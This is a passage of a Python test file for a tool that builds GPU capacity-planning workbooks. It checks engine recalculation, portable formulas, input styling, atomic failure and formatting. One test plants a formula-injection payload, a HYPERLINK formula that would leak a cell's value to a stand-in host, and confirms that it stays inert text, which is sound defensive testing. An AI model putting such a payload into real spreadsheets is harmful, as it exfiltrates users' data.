"""The workbook: live formulas that a real spreadsheet engine computes to the values we cache,
named and styled inputs, text that stays text, and atomic failure."""

from __future__ import annotations

import math
import os
import re
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook
from openpyxl.formula.tokenizer import Tokenizer
from openpyxl.utils import get_column_letter

from planner.build import WORKBOOK_NAME, run_build
from planner.cli import cli
from planner.errors import PlannerError
from planner.inputs.assumptions import ASSUMPTIONS
from planner.inputs.catalog import DEFAULT_GPUS, DEFAULT_MODELS, DEFAULT_SERVERS, DEFAULT_WORKLOADS
from planner.inputs.grid import DEFAULT_GRID
from planner.outputs.workbook.cells import CONTENTS
from tests.recalc import recalculate, recalculate_gnumeric
from tests.workbook_dump import dump

DATA = Path(__file__).parent / "data"
SMALL = {"models_path": DATA / "small-models.yaml", "gpus_path": DATA / "small-gpus.yaml",
         "grid_path": DATA / "small-grid.yaml"}
GOLDEN = {"models_path": DATA / "small-models.yaml", "gpus_path": DATA / "small-gpus.yaml",
          "grid_path": DATA / "golden-grid.yaml"}
# ISERROR, COUNTA and ROUND serve the Checks sheet and the packed racks; each is computed alike
# by Excel, LibreOffice and Gnumeric (ISERROR of one value: Gnumeric reads a range as one cell).
PORTABLE_FUNCTIONS = {"IF", "MIN", "MAX", "INT", "AND", "OR", "NOT", "INDEX", "MATCH", "SUM",
                      "LN", "SUMPRODUCT", "ISERROR", "COUNTA", "ROUND", "ABS"}


def build(out: Path, models_path: Path = DEFAULT_MODELS, gpus_path: Path = DEFAULT_GPUS,
          grid_path: Path = DEFAULT_GRID, overrides: dict | None = None) -> Path:
    run_build(models_path, gpus_path, grid_path, out, overrides or {}, None)
    return out / WORKBOOK_NAME


def named_cell(wb, name: str):  # type: ignore[no-untyped-def]
    sheet, coord = wb.defined_names[name].attr_text.replace("$", "").split("!")
    return wb[sheet.strip("'")][coord]


def formula_cells(path: Path):
    """(sheet, coordinate, formula) of every formula cell."""
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield ws.title, cell.coordinate, cell.value


def same(a: object, b: object, abs_tol: float = 1e-9) -> bool:
    if isinstance(a, bool) or isinstance(b, bool) or isinstance(a, str) or isinstance(b, str):
        return a == b
    if isinstance(a, int | float) and isinstance(b, int | float):
        return math.isclose(a, b, rel_tol=1e-9, abs_tol=abs_tol)
    return a == b


def compare(expected: Path, actual: Path, abs_tol: float = 1e-9) -> list[str]:
    """Formula cells whose values differ between two workbooks (data_only)."""
    exp, act = load_workbook(expected, data_only=True), load_workbook(actual, data_only=True)
    bad = []
    for sheet, coord, formula in formula_cells(expected):
        a, b = exp[sheet][coord].value, act[sheet][coord].value
        if not same(a, b, abs_tol):
            bad.append(f"{sheet}!{coord} {formula[:80]}: {a!r} vs {b!r}")
    return bad


def assert_engine_agrees(built: Path, recalculated: Path, min_formulas: int,
                         abs_tol: float = 1e-9) -> None:
    """Every formula cell the engine recalculated equals the cached value, and there were at
    least `min_formulas` of them."""
    mismatches = compare(built, recalculated, abs_tol)
    assert sum(1 for _ in formula_cells(built)) > min_formulas
    assert mismatches == [], f"{len(mismatches)} mismatches:\n" + "\n".join(mismatches[:20])


@pytest.fixture(scope="module")
def small_workbook(tmp_path_factory) -> Path:
    return build(tmp_path_factory.mktemp("small"), **SMALL)


# --- a real spreadsheet engine agrees with every cached value --------------------------------

# (default_workbook and default_cold_libreoffice/_gnumeric, built and recalculated once a
# session, are in conftest.py; the cold recalculation's error count is in test_cold_recalc.py)
@pytest.mark.libreoffice
def test_default_workbook_cached_values_equal_libreoffice(default_workbook,
                                                           default_cold_libreoffice) -> None:
    assert_engine_agrees(default_workbook, default_cold_libreoffice, 150_000)


@pytest.mark.libreoffice
def test_editing_a_named_input_equals_rebuilding_with_set(small_workbook, tmp_path) -> None:
    wb = load_workbook(small_workbook)
    named_cell(wb, "gpu_memory_utilization").value = 0.8
    edited = tmp_path / "edited" / "capacity-plan.xlsx"
    edited.parent.mkdir()
    wb.save(edited)
    recalculated = recalculate(edited, tmp_path / "recalculated")
    rebuilt = build(tmp_path / "rebuilt", **SMALL, overrides={"gpu_memory_utilization": 0.8})
    assert compare(rebuilt, recalculated) == []
    # and the edit really moved the numbers
    assert compare(small_workbook, rebuilt) != []


# Gnumeric, a second engine: it reads a copy with no cached formula value at all, so every value
# it writes is its own. Its xlsx has no default cell style, which openpyxl warns about.
GNUMERIC_STYLES = "ignore:Workbook contains no default style:UserWarning"


@pytest.mark.gnumeric
@pytest.mark.filterwarnings(GNUMERIC_STYLES)
def test_default_workbook_cached_values_equal_gnumeric(default_workbook,
                                                       default_cold_gnumeric) -> None:
    assert_engine_agrees(default_workbook, default_cold_gnumeric, 150_000,
                         abs_tol=0.0)  # relative only


def one_entry(path: Path, section: str, entry: str, folder: Path, **changes: object) -> Path:
    """The catalog at `path` cut down to its one `entry` (with `changes`), written in `folder`."""
    catalog = yaml.safe_load(path.read_text())
    catalog[section] = {entry: {**catalog[section][entry], **changes}}
    cut = folder / path.name
    cut.write_text(yaml.safe_dump(catalog, sort_keys=False))
    return cut


@pytest.mark.gnumeric
@pytest.mark.filterwarnings(GNUMERIC_STYLES)
def test_editing_a_named_input_in_gnumeric_equals_rebuilding_with_set(tmp_path) -> None:
    workloads = one_entry(DEFAULT_WORKLOADS, "workloads", "rag-8b-long-context", tmp_path)
    gpus = yaml.safe_load(SMALL["gpus_path"].read_text())["gpus"]
    catalog = yaml.safe_load(DEFAULT_SERVERS.read_text())
    catalog["servers"] = {k: s for k, s in catalog["servers"].items() if s["gpu"] in gpus}
    servers = tmp_path / "servers.yaml"
    servers.write_text(yaml.safe_dump(catalog, sort_keys=False))

    def small(out: Path, overrides: dict) -> Path:
        run_build(SMALL["models_path"], SMALL["gpus_path"], SMALL["grid_path"], out, overrides,
                  None, workloads_path=workloads, servers_path=servers)
        return out / WORKBOOK_NAME

    original = small(tmp_path / "original", {})
    wb = load_workbook(original)
    named_cell(wb, "gpu_memory_utilization").value = 0.8
    edited = tmp_path / "edited" / "capacity-plan.xlsx"
    edited.parent.mkdir()
    wb.save(edited)
    recalculated = recalculate_gnumeric(edited, tmp_path / "recalculated")
    rebuilt = small(tmp_path / "rebuilt", {"gpu_memory_utilization": 0.8})
    assert compare(rebuilt, recalculated, abs_tol=0.0) == []
    assert compare(original, rebuilt) != []


# One entry in every catalog (and, second, one candidate for the one workload): Gnumeric's INDEX
# gives #REF! on a one-cell range where Excel and LibreOffice give the cell, so the names of a
# one-entry catalog and a workload's one-row Fleet block cover the empty cell below as well.
@pytest.fixture(scope="module", params=["one-entry-catalogs", "one-candidate"])
def one_entry_workbook(request, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp(request.param)
    one_candidate = request.param == "one-candidate"
    models = one_entry(SMALL["models_path"], "models", "llama-3.1-8b", folder)
    gpus = one_entry(SMALL["gpus_path"], "gpus", "h100-sxm", folder)
    workloads = one_entry(DEFAULT_WORKLOADS, "workloads", "rag-8b-long-context", folder,
                          **({"weights": ["bf16"], "kv": ["bf16"]} if one_candidate else {}))
    servers = one_entry(DEFAULT_SERVERS, "servers", "hgx-h100-8", folder,
                        **({"scale_up_gpus": 1} if one_candidate else {}))  # TP 1 only
    # one candidate: engine none serves in one layout (plain TP), where vLLM adds disaggregated
    run_build(models, gpus, SMALL["grid_path"], folder / "built",
              {"engine": "none"} if one_candidate else {}, None,
              workloads_path=workloads, servers_path=servers)
    built = folder / "built" / WORKBOOK_NAME
    wb = load_workbook(built)
    assert [wb[s].max_row for s in ("Models", "GPUs", "Workloads", "Servers")] == [2, 2, 2, 2]
    assert (wb["Fleet"].max_row == 2) == one_candidate
    return built


@pytest.mark.gnumeric
@pytest.mark.filterwarnings(GNUMERIC_STYLES)
def test_one_entry_catalogs_cached_values_equal_gnumeric(one_entry_workbook, tmp_path) -> None:
    recalculated = recalculate_gnumeric(one_entry_workbook, tmp_path)
    assert_engine_agrees(one_entry_workbook, recalculated, 0, abs_tol=0.0)  # relative only


@pytest.mark.libreoffice
def test_one_entry_catalogs_cached_values_equal_libreoffice(one_entry_workbook,
                                                            tmp_path) -> None:
    assert_engine_agrees(one_entry_workbook, recalculate(one_entry_workbook, tmp_path), 0)


# --- what a previewer that cannot calculate sees ---------------------------------------------

def test_every_formula_cell_carries_a_cached_value(small_workbook) -> None:
    values = load_workbook(small_workbook, data_only=True)
    missing = [f"{s}!{c}" for s, c, _ in formula_cells(small_workbook)
               if values[s][c].value is None]
    assert missing == []


def test_excel_still_recalculates_on_open(small_workbook) -> None:
    with zipfile.ZipFile(small_workbook) as zf:
        assert 'fullCalcOnLoad="1"' in zf.read("xl/workbook.xml").decode()


# --- formulas: portable, from the definitions, one lookup per row ----------------------------

def test_formulas_use_only_portable_functions(small_workbook) -> None:
    used: set[str] = set()
    for _, _, formula in formula_cells(small_workbook):
        for token in Tokenizer(formula).items:
            if token.type == "FUNC" and token.subtype == "OPEN":
                used.add(token.value.rstrip("("))
    assert used <= PORTABLE_FUNCTIONS, used - PORTABLE_FUNCTIONS
    assert {"OFFSET", "INDIRECT", "XLOOKUP", "LET"}.isdisjoint(used)


def test_catalog_lookups_resolved_once_per_row(small_workbook) -> None:
    """Catalog ids are matched once per row; the only other MATCHes find a measured per-op
    table's column in its short bucket axis (MATCH(…, perop_…, 1))."""
    ws = load_workbook(small_workbook)["Grid"]
    for row in ws.iter_rows(min_row=2, max_row=5):
        texts = [_without_bucket_matches(c.value) for c in row if isinstance(c.value, str)]
        matches = [t for t in texts if "MATCH(" in t]
        assert len(matches) == 4  # model, GPU, weight format, KV format
        assert all(t.count("MATCH(") == 1 for t in matches)


def _without_bucket_matches(text: str) -> str:
    """`text` less every MATCH(…,perop_<axis>,1), its parentheses balanced."""
    out, i = [], 0
    while (start := text.find("MATCH(", i)) >= 0:
        depth, end = 0, start + len("MATCH")
        for end in range(start + len("MATCH"), len(text)):
            depth += {"(": 1, ")": -1}.get(text[end], 0)
            if depth == 0:
                break
        call = text[start:end + 1]
        out.append(text[i:start] + ("" if re.search(r",perop_[a-z_]+,1\)$", call) else call))
        i = end + 1
    return "".join(out) + text[i:]


def test_grid_formula_is_the_definition_rendered(small_workbook) -> None:
    ws = load_workbook(small_workbook)["Grid"]
    header = [c.value for c in ws[1]]
    col = header.index("Weights per GPU [bytes, shown in GB]") + 1
    weights = get_column_letter(header.index("Weights [bytes, shown in GB]") + 1)
    tp = get_column_letter(header.index("TP degree [GPUs]") + 1)
    assert ws.cell(row=2, column=col).value == f"=${weights}2/${tp}2"
    col = header.index("Routed-expert weights [bytes, shown in GB]") + 1
    assert "INDEX(engine_weights_as_loaded,engine_row)" in ws.cell(row=2, column=col).value


# --- inputs are inputs -----------------------------------------------------------------------

def test_assumptions_are_named_styled_unlocked_inputs(small_workbook) -> None:
    wb = load_workbook(small_workbook)
    for name in ASSUMPTIONS:
        cell = named_cell(wb, name)
        assert cell.protection.locked is False, name
        assert cell.font.color.rgb.endswith("0000FF"), name  # blue input text
        assert cell.fill.fgColor.rgb.endswith("FFF2CC"), name
    for ws in wb.worksheets:
        assert ws.protection.sheet or ws.title in ("Grid", "Fleet"), ws.title
        assert ws.protection.password is None


def test_format_bytes_are_named_inputs(small_workbook) -> None:
    wb = load_workbook(small_workbook)
    assert named_cell(wb, "bytes_per_param_int4").value == pytest.approx(0.51953125)


def test_every_grid_header_has_a_unit(small_workbook) -> None:
    ws = load_workbook(small_workbook)["Grid"]
    headers = [c.value for c in ws[1] if c.value != CONTENTS]
    unitless = [h for h in headers if "[" not in h]
    assert unitless == []
    assert not any(re.search(r"\bG\b", h) for h in headers)


# --- catalog text is data --------------------------------------------------------------------

def test_hyperlink_in_a_source_stays_text(tmp_path) -> None:
    hostile = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    catalog = yaml.safe_load((DATA / "small-models.yaml").read_text())
    catalog["models"]["llama-3.1-8b"]["source"] = hostile
    models = tmp_path / "models.yaml"
    models.write_text(yaml.safe_dump(catalog, sort_keys=False))
    path = build(tmp_path / "out", models, SMALL["gpus_path"], SMALL["grid_path"])
    ws = load_workbook(path)["Models"]
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("source") + 1)
    assert cell.value == hostile
    assert cell.data_type == "s"
    with zipfile.ZipFile(path) as zf:
        sheets = " ".join(zf.read(n).decode() for n in zf.namelist() if "worksheets/sheet" in n)
    assert "<f>HYPERLINK" not in sheets


# --- failure leaves the output folder as it was ----------------------------------------------

def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize("breakage", ["catalog", "grid", "set"])
def test_failed_build_changes_nothing(tmp_path, breakage: str) -> None:
    out = tmp_path / "out"
    build(out, **SMALL)
    (out / "notes.txt").write_text("kept")
    before = snapshot(out)
    args = ["build", "--out", str(out), "--models", str(SMALL["models_path"]),
            "--gpus", str(SMALL["gpus_path"]), "--grid", str(SMALL["grid_path"])]
    if breakage == "catalog":
        bad = tmp_path / "bad-models.yaml"
        bad.write_text(SMALL["models_path"].read_text().replace("hidden_size: 4096",
                                                                 "hidden_size: -1", 1))
        args[args.index("--models") + 1] = str(bad)
    elif breakage == "grid":
        bad = tmp_path / "bad-grid.yaml"
        bad.write_text(SMALL["grid_path"].read_text().replace("tp: [1, 8]", "tp: [0]"))
        args[args.index("--grid") + 1] = str(bad)
    else:
        args += ["--set", "gpu_memory_utilization=2"]
    result = CliRunner().invoke(cli, args)
    assert isinstance(result.exception, PlannerError)
    assert snapshot(out) == before  # same files, same bytes, no partial files


@pytest.mark.parametrize("failing,error", [("html", RuntimeError), ("html", OSError),
                                           ("workbook", RuntimeError)])
def test_failure_while_writing_leaves_the_folder_as_it_was(tmp_path, monkeypatch, failing: str,
                                                          error: type) -> None:
    """The inputs are fine and the writers run: one fails after writing part of its file (the
    HTML after the whole workbook was written, or the workbook itself midway)."""
    import planner.outputs.html.report
    import planner.outputs.workbook

    out = tmp_path / "out"
    build(out, **SMALL)
    (out / "notes.txt").write_text("kept")
    before = snapshot(out)
    seen: list[str] = []

    def broken(*args: object) -> None:
        path = next(a for a in args if isinstance(a, Path))
        if failing == "html":  # the workbook is complete, under its temporary name
            (written,) = out.glob(".capacity-plan.xlsx.*.partial")
            with zipfile.ZipFile(written) as zf:
                assert "xl/workbook.xml" in zf.namelist()
            seen.append(written.name)
        path.write_bytes(b"partial output")
        if error is OSError:
            raise OSError(28, "No space left on device", str(path))
        raise RuntimeError("writer failed")

    module = planner.outputs.html.report if failing == "html" else planner.outputs.workbook
    monkeypatch.setattr(module, f"write_{failing}", broken)
    expected = PlannerError if error is OSError else error
    with pytest.raises(expected, match="No space left|writer failed"):
        build(out, **SMALL, overrides={"gpu_memory_utilization": 0.8})
    assert seen or failing == "workbook"
    assert snapshot(out) == before  # same files, same bytes, no partial files


def test_grid_beyond_excel_rows_is_a_clear_error(tmp_path) -> None:
    grid = tmp_path / "huge.yaml"
    grid.write_text("grid:\n  models: all\n  gpus: all\n  weights: [bf16, fp8, int4, nvfp4]\n"
                    "  kv: [bf16, fp8, fp16]\n  context: [" + ", ".join(
                        str(1024 * (i + 1)) for i in range(200)) + "]\n"
                    "  batch: [1, 2, 4, 8, 16, 32, 64, 128]\n  tp: [1, 8]\n")
    out = tmp_path / "out"
    with pytest.raises(PlannerError, match="more than the 1,048,575 rows"):
        build(out, DEFAULT_MODELS, DEFAULT_GPUS, grid)
    assert not out.exists() or list(out.iterdir()) == []


# --- a readable golden dump of a tiny workbook -----------------------------------------------

def test_golden_dump(tmp_path) -> None:
    path = build(tmp_path, **GOLDEN)
    golden = DATA / "golden-workbook.txt"
    text = dump(path)
    if os.environ.get("UPDATE_GOLDEN") == "1":
        golden.write_text(text)
    assert text == golden.read_text(), "run with UPDATE_GOLDEN=1 and review the diff"


def test_native_charts_carry_cached_points(small_workbook) -> None:
    """Previewers draw charts from the cache in the chart part, not from cell formulas."""
    with zipfile.ZipFile(small_workbook) as zf:
        charts = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 5  # three on Charts, cost breakdown on Budget, tornado on Sensitivity
    for xml in charts:
        series = xml.count("<ser>")
        assert series >= 1
        assert xml.count("<numCache>") >= series  # every series has its values
        assert re.search(r"<pt idx=\"0\"><v>[0-9.]+</v></pt>", xml)


def test_protection_never_blocks_ordinary_work(small_workbook) -> None:
    wb = load_workbook(small_workbook)
    for ws in wb.worksheets:
        if ws.title in ("Grid", "Fleet"):  # Excel cannot sort protected ranges: left open
            assert not ws.protection.sheet, ws.title
            continue
        assert ws.protection.sheet, ws.title
        assert not ws.protection.formatColumns and not ws.protection.formatRows, ws.title


def test_no_catalog_value_shows_as_hashes(small_workbook) -> None:
    """Every catalog column is at least as wide as its widest value as the format shows it."""
    from planner.outputs.workbook.cells import shown_text

    wb = load_workbook(small_workbook)
    for title in ("Models", "GPUs"):
        ws = wb[title]
        values = load_workbook(small_workbook, data_only=True)[title]
        for column in ws.iter_cols(min_row=2):
            letter = column[0].column_letter
            width = ws.column_dimensions[letter].width
            for cell in column:
                value = values[cell.coordinate].value
                if isinstance(value, int | float) and not isinstance(value, bool):
                    shown = shown_text(value, cell.number_format)
                    assert len(shown) < width, (title, cell.coordinate, shown, width)


def test_money_is_formatted_as_currency_with_the_unit_in_the_header(small_workbook) -> None:
    ws = load_workbook(small_workbook)["GPUs"]
    header = [c.value for c in ws[1]]
    column = header.index("Price per GPU-hour [USD]") + 1
    assert "$" in ws.cell(row=2, column=column).number_format
    assert "$" in ws.cell(row=2, column=header.index("Purchase price per GPU [USD]") + 1
                          ).number_format


def test_wrapped_headers_get_the_height_they_need(small_workbook) -> None:
    """A header that wraps onto several lines gets a row tall enough, so it never paints over
    the first data row (Formats: "Bytes per parameter [bytes]" in an 18-wide column)."""
    wb = load_workbook(small_workbook)
    ws = wb["Formats"]
    header_row = next(r for r in range(1, 6) if ws.cell(r, 1).value == "Format")
    assert ws.row_dimensions[header_row].height >= 30
    assert (ws.row_dimensions[header_row + 1].height or 15) <= 20


# --- the Budget: the order list and the decision, as `planner size --json` gives them ---------

def _values(ws) -> dict[str, object]:  # type: ignore[no-untyped-def]
    return {c.coordinate: c.value for row in ws.iter_rows() for c in row
            if getattr(c, "coordinate", None) and c.value is not None}


def sheet_values(path: Path, title: str) -> dict[str, object]:
    """Coordinate -> cached value of one sheet (read-only: the default workbook is large)."""
    wb = load_workbook(path, read_only=True, data_only=True)
    try:
        return _values(wb[title])
    finally:
        wb.close()


def named_values(path: Path, names: list[str]) -> dict[str, object]:
    """Cached value of each defined name, the workbook opened once (each opening of the
    default workbook reads all of its shared strings)."""
    wb = load_workbook(path, read_only=True, data_only=True)
    try:
        refs = {n: wb.defined_names[n].attr_text.replace("$", "").split("!") for n in names}
        cells = {t: _values(wb[t]) for t in {s.strip("'") for s, _ in refs.values()}}
    finally:
        wb.close()
    return {n: cells[s.strip("'")].get(c) for n, (s, c) in refs.items()}


@pytest.mark.slow  # the default build's workbook (every shipped workload sized)
def test_budget_order_list_and_decision_are_planner_size(default_workbook, sized_json) -> None:
    """Per workload, read from the built workbook's cached values: extended price = quantity ×
    unit price, and each line of the order list, GPUs and decision equals planner size --json."""
    from planner.outputs.workbook.budget_sheet import BudgetLayout

    workloads = sized_json["workloads"]
    lay = BudgetLayout([w["workload"] for w in workloads])
    v = sheet_values(default_workbook, "Budget")

    def cell(table: str, key: str, wid: str) -> object:
        return v.get(lay.cell(table, key, wid).replace("$", ""))

    for w in workloads:
        wid, order = w["workload"], w["order"]
        quantity, unit = cell("order", "quantity", wid), cell("order", "unit_price", wid)
        extended = cell("order", "extended_price", wid)
        assert extended == pytest.approx(quantity * unit)  # type: ignore[operator]
        assert (cell("order", "server", wid), cell("order", "server_model", wid),
                quantity, unit, cell("order", "price_date", wid)) == (
            order["server"], order["name"], w["servers"], order["unit_price_usd"],
            order["price_date"])
        for table, key, json_key in (
                ("order", "extended_price", "server_capex_usd"),
                ("order", "network", "network_capex_usd"), ("order", "capex", "capex_usd"),
                ("gpus", "gpus_bought", "gpus_bought"), ("gpus", "gpus_running", "gpus"),
                ("gpus", "idle_gpus", "idle_gpus"), ("gpus", "extra_replicas", "extra_replicas"),
                ("running", "energy", "energy_usd_per_year"),
                ("running", "colocation", "colocation_usd_per_year"),
                ("running", "support", "support_usd_per_year"),
                ("running", "opex", "opex_usd_per_year"), ("running", "tco", "tco_usd"),
                ("decision", "annual_cost", "annual_cost_usd"),
                ("decision", "rent_on_demand", "cloud_usd_per_year"),
                ("decision", "rent_1y", "cloud_reserved_usd_per_year"),
                ("decision", "rent_3y", "cloud_reserved_3y_usd_per_year"),
                ("decision", "break_even", "break_even_utilisation"),
                ("decision", "saving", "verdict_saving_usd_per_year")):
            assert cell(table, key, wid) == pytest.approx(w[json_key]), (wid, key)
        assert cell("gpus", "it_power_kw", wid) == pytest.approx(w["it_power_w"] / 1000)
        assert cell("decision", "verdict", wid) == w["verdict"]
        assert cell("gpus", "survives", wid) == ("Yes" if w["survives_server_loss"] else "No")
        assert cell("choice", "meets", wid) == ("Yes" if w["meets_targets"] else "No")
    totals, fleet = sized_json["totals"], sized_json["fleet"]
    named = named_values(default_workbook, [
        "total_gpus", "total_gpus_running", "total_servers", "total_racks", "total_capex_usd",
        "total_network_capex_usd", "total_support_usd_per_year", "total_opex_usd_per_year",
        "total_tco_usd", "total_it_power_kw", "fleet_verdict",
        "fleet_verdict_saving_usd_per_year"])
    assert named["total_gpus"] == totals["gpus_bought"] > totals["gpus"]  # GPUs bought
    assert named["total_gpus_running"] == totals["gpus"]
    assert named["total_racks"] == fleet["racks_packed"] <= totals["racks"]
    for name, key in (("total_servers", "servers"), ("total_capex_usd", "capex_usd"),
                      ("total_network_capex_usd", "network_capex_usd"),
                      ("total_support_usd_per_year", "support_usd_per_year"),
                      ("total_opex_usd_per_year", "opex_usd_per_year"),
                      ("total_tco_usd", "tco_usd")):
        assert named[name] == pytest.approx(totals[key]), name
    assert named["total_it_power_kw"] == pytest.approx(totals["it_power_w"] / 1000)
    assert named["fleet_verdict"] == fleet["verdict"]
    assert named["fleet_verdict_saving_usd_per_year"] == pytest.approx(
        fleet["verdict_saving_usd_per_year"])


# --- the Checks sheet ----------------------------------------------------------------------

def test_checks_ok_is_true_as_built_and_shown_on_about_and_budget(small_workbook) -> None:
    assert named_values(small_workbook, ["checks_ok"])["checks_ok"] is True
    checks = sheet_values(small_workbook, "Checks")
    results = [value for coord, value in checks.items() if coord.startswith("B")
               and isinstance(value, int) and not isinstance(value, bool)]
    assert len(results) > 20 and set(results) == {0}  # every check, each 0 (OK)
    assert sheet_values(small_workbook, "About")["B3"] == "All checks pass (see Checks)"
    assert named_values(small_workbook, ["budget_checks"])["budget_checks"] == \
        "All checks pass"


@pytest.mark.libreoffice
def test_checks_ok_after_recalculation_and_false_after_a_planted_inconsistency(
        small_workbook, tmp_path) -> None:
    recalculated = recalculate(small_workbook, tmp_path / "recalculated")
    assert named_values(recalculated, ["checks_ok"])["checks_ok"] is True
    from planner.outputs.workbook.budget_sheet import BudgetLayout

    wb = load_workbook(small_workbook)
    workloads = [r[0].value for r in wb["Workloads"].iter_rows(min_row=2)]
    first = workloads[0]
    network = wb["Budget"][BudgetLayout(workloads).cell("order", "network", first)
                           .replace("$", "")]
    assert network.data_type == "f"
    network.value = 1  # a value typed over a formula: the order list no longer agrees
    planted = tmp_path / "planted" / WORKBOOK_NAME
    planted.parent.mkdir()
    wb.save(planted)
    broken = recalculate(planted, tmp_path / "broken")
    assert named_values(broken, ["checks_ok"])["checks_ok"] is False
    checks = sheet_values(broken, "Checks")
    failed = [checks[f"A{coord[1:]}"] for coord, value in checks.items()
              if coord.startswith("B") and value == 1 and int(coord[1:]) > 5]
    # the order list's capex no longer agrees with the Fleet row, and the fleet's capex (their
    # sum) no longer with the TCO and annual cost (the Fleet rows')
    assert failed == ["TCO = capex + opex × present-value factor",
                      "Owned annual cost = capex ÷ present-value factor + opex",
                      f"{first}: the order list and running cost agree with its Fleet row"]
    assert sheet_values(broken, "About")["B3"] == "FAIL: see the Checks sheet"


# --- reading: navigation, labels, precision, units ------------------------------------------

def test_contents_links_every_sheet_and_every_sheet_links_back(small_workbook) -> None:
    from planner.outputs.workbook import SHEET_ORDER

    wb = load_workbook(small_workbook)
    about = {c.hyperlink.location for row in wb["About"].iter_rows() for c in row
             if c.hyperlink is not None}
    assert about == {f"'{s}'!A1" for s in SHEET_ORDER if s != "About"}
    for ws in wb.worksheets[1:]:
        links = [c for c in ws[1] if c.hyperlink is not None]
        assert [(c.value, c.hyperlink.location) for c in links] == [
            (CONTENTS, "'About'!A1")], ws.title


def test_finance_inputs_come_first_in_words_with_their_stored_precision(small_workbook) -> None:
    from planner.outputs.workbook.cells import shown_text

    wb = load_workbook(small_workbook)
    ws = wb["Assumptions"]
    titles = [r[0].value for r in ws.iter_rows() if r[0].style == "planner_title"]
    assert titles[1:4] == ["Finance: amortisation, discounting and cloud commitments",
                           "Site: power, space, headroom and redundancy",
                           "Engine internals: how the planner models the serving engine"]
    shown = {name: shown_text(named_cell(wb, name).value, named_cell(wb, name).number_format)
             for name in ("electricity_usd_per_kwh", "discount_rate", "pue",
                          "colocation_usd_per_kw_month", "reserved_discount")}
    assert shown == {"electricity_usd_per_kwh": "$0.0826", "discount_rate": "8%",
                     "pue": "1.25", "colocation_usd_per_kw_month": "$184.06",
                     "reserved_discount": "41%"}
    label = ws.cell(named_cell(wb, "electricity_usd_per_kwh").row, 1).value
    assert label == "Electricity price [USD/kWh]"
    for a in ASSUMPTIONS.values():
        if a.group in ("site", "finance"):  # the evidence in words, not only a repo path
            words = re.sub(r"\([^)]*\.md[^)]*\)", "", a.source)
            assert len(words.split()) >= 8 and not words.startswith("docs/"), a.name


def test_every_gpu_and_server_column_header_has_a_unit(small_workbook) -> None:
    wb = load_workbook(small_workbook)
    for title in ("GPUs", "Servers", "Clouds", "Workloads"):
        ws = wb[title]
        values = load_workbook(small_workbook, data_only=True)[title]
        for head, cell in zip(ws[1], values[2], strict=False):
            if head.value == CONTENTS or head.value is None:
                continue
            assert "[elements]" not in head.value, (title, head.value)
            if isinstance(cell.value, int | float):
                assert "[" in head.value, (title, head.value)


def test_readers_see_yes_no_and_rented_costs_say_so(small_workbook) -> None:
    wb = load_workbook(small_workbook)
    values = load_workbook(small_workbook, data_only=True)
    shown = {c.value for ws in ("Budget", "Capacity", "Charts") for row in values[ws].iter_rows()
             for c in row if isinstance(c.value, bool)}
    assert shown == set()  # no TRUE/FALSE shown to readers on these sheets
    headers = [c.value for ws in ("Capacity", "Charts") for row in wb[ws].iter_rows()
               for c in row if isinstance(c.value, str) and "per million" in c.value]
    assert headers and all("rented" in h and "full use" in h for h in headers), headers


def test_a_missed_target_never_shows_as_money(small_workbook) -> None:
    from planner.model.fleet import NOT_MET
    from planner.outputs.workbook.cells import shown_text
    from planner.outputs.workbook.fleet_sheets import FLEET_COL

    ws = load_workbook(small_workbook)["Fleet"]
    fmt = ws[f"{FLEET_COL['choice_key']}2"].number_format
    assert shown_text(NOT_MET * 2, fmt) == "misses a target"
    assert shown_text(1_234_567.8, fmt) == "$1,234,568"


def test_no_steady_state_shows_in_words_wherever_the_formula_can_give_it() -> None:
    """A latency of 1e9 s marks a queue that never settles: every Fleet column whose formula can
    give it shows it in words (1e9 s at six decimals is ### in any column)."""
    from planner.model.expr import Num
    from planner.model.fleet import FLEET_QUANTITIES
    from planner.outputs.workbook.cells import shown_text
    from planner.outputs.workbook.fleet_sheets import FORMAT_OVERRIDES

    def has_sentinel(node: object) -> bool:
        if isinstance(node, Num):
            return node.value == 1e9
        kids = getattr(node, "args", None) or [getattr(node, k, None) for k in ("left", "right",
                                                                              "operand")]
        return any(has_sentinel(k) for k in kids if k is not None)

    # a time of 1e9 s (a rate may hold 10^9 as GB/s → B/s: planner.model.layouts)
    sentinel = {x.name for x in FLEET_QUANTITIES if x.unit == "s" and has_sentinel(x.expr)}
    assert "ttft_percentile_seconds" in sentinel and len(sentinel) >= 5
    for name in sentinel:
        assert shown_text(1e9, FORMAT_OVERRIDES.get(name, "0.000000")) == "no steady state", name


def _column_widths(path: Path) -> dict[str, dict[int, float]]:
    from planner.outputs.workbook.cache import sheet_parts

    out = {}
    with zipfile.ZipFile(path) as zf:
        for title, part in sheet_parts(zf).items():
            head = zf.open(part).read(200_000).decode(errors="ignore")
            widths = {}
            for m in re.finditer(r"<col ([^>]*)/>", head):
                attrs = dict(re.findall(r'(\w+)="([^"]*)"', m.group(1)))
                for i in range(int(attrs["min"]), int(attrs["max"]) + 1):
                    widths[i] = float(attrs.get("width", 8.43))
            out[title] = widths
    return out


@pytest.mark.slow  # reads every cell of the default workbook
def test_no_number_shows_as_hashes(default_workbook) -> None:
    """Every number of the default workbook fits its column at its number format (the width
    of what the format shows for the cached value; General shrinks to fit)."""
    from planner.outputs.workbook.shown import needed_width

    widths = _column_widths(default_workbook)
    wb = load_workbook(default_workbook, read_only=True, data_only=True)
    too_wide = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                value = getattr(c, "value", None)
                if isinstance(value, int | float) and not isinstance(value, bool):
                    width = widths[ws.title].get(c.column, 8.43)
                    if needed_width(value, c.number_format) >= width:
                        too_wide.append(f"{ws.title}!{c.coordinate}={value!r} "
                                        f"[{c.number_format}] in {width}")
    wb.close()
    assert too_wide == [], too_wide[:20]


# --- print: what a finance export prints ----------------------------------------------------

def test_finance_sheets_print_fitted_with_headers_and_footers(small_workbook) -> None:
    from planner.outputs.workbook import FINANCE_SHEETS

